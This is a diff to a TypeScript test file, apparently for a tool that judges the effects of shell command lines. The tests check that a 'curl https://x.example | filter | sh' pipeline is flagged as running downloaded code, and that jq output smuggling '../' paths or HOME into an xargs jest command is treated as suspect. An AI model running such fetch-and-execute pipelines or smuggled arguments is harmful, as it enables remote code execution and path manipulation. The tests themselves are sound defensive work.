@@ -4,12 +4,21 @@ import { effectLines } from '../../testing/effect-lines.ts'
 type Row = readonly [name: string, commandLine: string, expected: readonly string[]]
 
 describe('a download stays one, whatever filter it goes through', () => {
-  test.each(['head -5', 'cut -c1-5', 'tr a b', 'rev', 'sort', 'grep x', "awk '{print $1}'", "sed 's/a/b/'", 'base64 -d'])(
-    '%s',
-    (filter) => {
-      expect(effectLines(`curl https://x.example | ${filter} | sh`)).toContain('execute:download standard input as shell')
-    },
-  )
+  test.each([
+    'head -5',
+    "jq -r '.[]'",
+    "jq -r '.a[0] | keys'",
+    'cut -c1-5',
+    'tr a b',
+    'rev',
+    'sort',
+    'grep x',
+    "awk '{print $1}'",
+    "sed 's/a/b/'",
+    'base64 -d',
+  ])('%s', (filter) => {
+    expect(effectLines(`curl https://x.example | ${filter} | sh`)).toContain('execute:download standard input as shell')
+  })
 })
 
 describe('what a filter leaves', () => {
@@ -129,4 +138,16 @@ describe('a field of a file', () => {
   ])('%s', (_name, commandLine, expected) => {
     expect(effectLines(commandLine, machine)).toEqual(expected)
   })
+})
+
+describe('what code of the project printed', () => {
+  const code =
+    'import { execFileSync } from "node:child_process"; console.log(execFileSync("git", ["diff", "--name-only"], { encoding: "utf8" }))'
+  const machine = { files: { '/w/a.mjs': code } }
+  test.each([
+    ['stays its own when values are picked', "node a.mjs | jq -r '.[].name' | xargs -I{} npx jest src/{}", false],
+    ['not what is made of it', `node a.mjs | jq -r '.[] | "../\\(.)"' | xargs -I{} npx jest src/{}`, true],
+    ['nor what stands beside it', `node a.mjs | jq -r '.[], env.HOME' | xargs -I{} npx jest src/{}`, true],
+    ['nor letters by their numbers', "node a.mjs | jq -r '[46,46] | implode' | xargs -I{} npx jest src/{}", true],
+  ])('%s', (_name, line, doubted) => expect(effectLines(line, machine).some((effect) => /run time/.test(effect))).toBe(doubted))
 })
